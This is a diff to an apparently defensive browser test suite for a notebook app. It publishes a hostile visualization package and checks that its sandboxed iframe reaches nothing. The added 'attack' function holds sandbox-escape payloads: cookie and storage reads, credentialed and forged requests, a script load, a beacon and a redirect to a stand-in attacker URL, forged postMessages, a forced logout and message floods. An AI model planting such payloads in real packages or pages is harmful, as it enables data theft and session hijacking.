@@ -1,6 +1,6 @@
 /**
- * What leaves the frame of an output: in the app, and on a page of another origin that has no
- * policy of its own.
+ * What leaves the frame of an output or a package: in the app, and on a page of another origin that
+ * has no policy of its own.
  */
 import { createSocket } from 'node:dgram';
 import { createServer, type Server } from 'node:http';
@@ -11,6 +11,7 @@ import type { Page } from 'playwright-core';
 import { afterAll, describe, expect, it } from 'vitest';
 import { launchChromium } from '../support/chromium.ts';
 import { ADMIN_PASSWORD, startEmbedded } from '../support/embedded.ts';
+import { startRegistry } from '../support/npm-registry.ts';
 import { openPage, signIn } from '../support/page.ts';
 import { untilEnd } from '../support/until-end.ts';
 
@@ -52,7 +53,10 @@ const portal = createServer((request, response) => {
   );
 });
 const portalUrl = await listening(portal);
-const embedded = untilEnd(await startEmbedded({ allowOrigins: [portalUrl] }));
+const registry = untilEnd(await startRegistry());
+const embedded = untilEnd(
+  await startEmbedded({ allowOrigins: [portalUrl], heliumRegistry: registry.url }),
+);
 const client = untilEnd(createClient({ server: embedded.server.url }));
 await client.session.login('admin', ADMIN_PASSWORD);
 const token = (await client.tokens.create({ description: 'portal' })).token!;
@@ -154,4 +158,156 @@ it('an output in the app does not use WebRTC', async () => {
   await page.evaluate(rtc());
   await expect.poll(() => packets).toBeGreaterThan(0);
   await close();
+});
+
+/** Runs in the frame of a package, and writes into the frame's body what it reached. */
+function attack(url: string, evil: string): void {
+  const shut = (): never => {
+    throw new Error('shut');
+  };
+  const answered = (start: (yes: () => void, no: () => void) => void) =>
+    new Promise<void>((yes, no) => {
+      setTimeout(no, 1_000);
+      start(yes, no);
+    });
+  const call = `${url}/api/notebook`;
+  const credentials = 'include';
+  const forged = '{"name":"forged"}';
+  const attacks: Record<string, () => unknown> = {
+    page: () => parent.document.title,
+    top: () => top!.document.title,
+    storage: () => localStorage.length,
+    'storage of the page': () => parent.localStorage.length,
+    cookies: () => document.cookie,
+    databases: () => indexedDB.open('x'),
+    caches: () => caches.open('x'),
+    call: () => fetch(call, { credentials }),
+    change: () => fetch(call, { method: 'POST', mode: 'no-cors', credentials, body: forged }),
+    request: () =>
+      answered((yes, no) => {
+        const request = new XMLHttpRequest();
+        Object.assign(request, { withCredentials: true, onload: yes, onerror: no });
+        request.open('GET', call);
+        request.send();
+      }),
+    socket: () =>
+      answered((onopen, onerror) =>
+        Object.assign(new WebSocket(`${url.replace('http', 'ws')}/ws`), { onopen, onerror }),
+      ),
+    events: () =>
+      answered((onopen, onerror) => Object.assign(new EventSource(call), { onopen, onerror })),
+    picture: () =>
+      answered((onload, onerror) =>
+        Object.assign(new Image(), { onload, onerror, src: `${url}/icon.svg` }),
+      ),
+    script: () =>
+      answered((onload, onerror) => {
+        const script = document.createElement('script');
+        document.head.append(Object.assign(script, { onload, onerror, src: `${evil}/x.js` }));
+      }),
+    worker: () =>
+      answered((yes, no) => {
+        const code = `fetch('${call}').then(() => postMessage(1), () => postMessage(0))`;
+        const worker = new Worker(URL.createObjectURL(new Blob([code])));
+        worker.onmessage = ({ data }) => (data ? yes() : no());
+      }),
+    window: () => window.open(`${evil}/window`) ?? shut(),
+    // The browser says yes; the other host would see it.
+    beacon: () => [navigator.sendBeacon(`${evil}/beacon`), shut()],
+  };
+  const place = { url: `${evil}/link`, href: `${evil}/link` };
+  const message = { ...place, config: { stolen: 1 }, height: 1e9, message: 'forged' };
+  const types = ['ready', 'port', 'show', 'config', 'height', 'open-link', 'message', 'error'];
+  for (const target of [parent, top!])
+    for (const type of types) target.postMessage({ ...message, type }, '*');
+  const form = document.createElement('form');
+  Object.assign(form, { method: 'post', action: `${url}/api/login/logout`, target: '_top' });
+  document.body.append(form);
+  form.submit();
+  for (const target of [top!, parent])
+    try {
+      target.location.href = `${evil}/top`;
+    } catch {}
+  const tries = Object.entries(attacks).map(async ([name, attempt]) => {
+    try {
+      await attempt();
+      return [name];
+    } catch {
+      return [];
+    }
+  });
+  void Promise.all(tries).then((reached) => {
+    document.body.dataset['reached'] = reached.flat().join(', ') || 'nothing';
+  });
+}
+
+describe('a package that attacks', () => {
+  const NAME = 'a-hostile-view';
+  let page: Page;
+  let pageClosed: () => Promise<void>;
+
+  /** Shows a table with the package in the app of a user, or on the portal's page. */
+  async function open(place: string, body: string): Promise<void> {
+    const version = `1.0.${Math.floor(Math.random() * 1e9)}`;
+    registry.publish(NAME, version, {
+      more: { keywords: ['zeppelin-visualization'], dependencies: { 'zeppelin-vis': '*' } },
+      files: {
+        'package/index.js':
+          "import Visualization from 'zeppelin-vis';" +
+          "import Passthrough from 'zeppelin-tabledata/passthrough';" +
+          'export default class extends Visualization {' +
+          'getTransformation() { return new Passthrough({}); }' +
+          `render() { if (this.done) return; this.done = true; ${body} } }`,
+      },
+    });
+    await client.packages.enable(NAME, `${NAME}@${version}`);
+    const note = await client.open(await client.notes.create({ path: `packages/${version}` }));
+    const paragraph = note.paragraphs[0]!;
+    paragraph.edit("%js\nconsole.log('%table a\\tb\\n1\\t2')");
+    expect((await paragraph.run()).status).toBe('FINISHED');
+    await paragraph.configure({ results: { 0: { graph: { mode: NAME } } } });
+    const address =
+      place === 'the app'
+        ? `${embedded.server.url}/#/notebook/${note.id}`
+        : `${portalUrl}/${note.id}/${paragraph.id}`;
+    note.close();
+    const watched = await openPage(browser);
+    [page, pageClosed] = [watched.page, watched.close];
+    await signIn(page, embedded.server.url, 'admin', ADMIN_PASSWORD);
+    hits = [];
+    packets = 0;
+    await page.goto(address);
+  }
+
+  it.each(['the app', 'the portal'])('in %s reaches nothing [S97]', async (place) => {
+    const { url } = embedded.server;
+    await open(place, `(${attack})('${url}', '${evilUrl}'); try { ${rtc()} } catch {}`);
+    const before = page.url();
+    const outer = page.frameLocator('iframe.package-frame');
+    const frame = place === 'the app' ? outer : outer.frameLocator('iframe');
+    await expect.poll(() => frame.locator('body').getAttribute('data-reached')).toBe('nothing');
+    await wait(ARRIVAL_MS);
+    expect({ hits, packets, url: page.url() }).toEqual({ hits: [], packets: 0, url: before });
+    expect((await client.notes.list()).map(({ path }) => path)).not.toContain('forged');
+    expect(await page.getByRole('alertdialog').count()).toBe(0);
+    expect((await page.request.get(`${url}/api/notebook`)).status()).toBe(200);
+    await pageClosed();
+  });
+
+  it.each([
+    ['leads its frame away', 'location = target'],
+    ['leads its frame away later', 'setTimeout(() => (location = target), 500)', true],
+    ['floods the page', "for (let n = 0; n < 1e5; n += 1) parent.postMessage('x', '*')"],
+    ['floods its view', 'for (let n = 0; n < 500; n += 1) this.emitConfig({ n })', true],
+  ])('and %s reaches nothing, and is stopped [S97]', async (_, attack, isStopped = false) => {
+    for (const place of ['the app', 'the portal']) {
+      await open(place, `const target = '${evilUrl}/self'; ${attack}`);
+      if (isStopped) await page.getByText('Try again').first().waitFor();
+      else await page.locator('article').getByText('Took').waitFor();
+      expect(await page.locator('iframe.package-frame').count()).toBeLessThan(isStopped ? 1 : 2);
+      await wait(ARRIVAL_MS);
+      expect(hits).toEqual([]);
+      await pageClosed();
+    }
+  });
 });
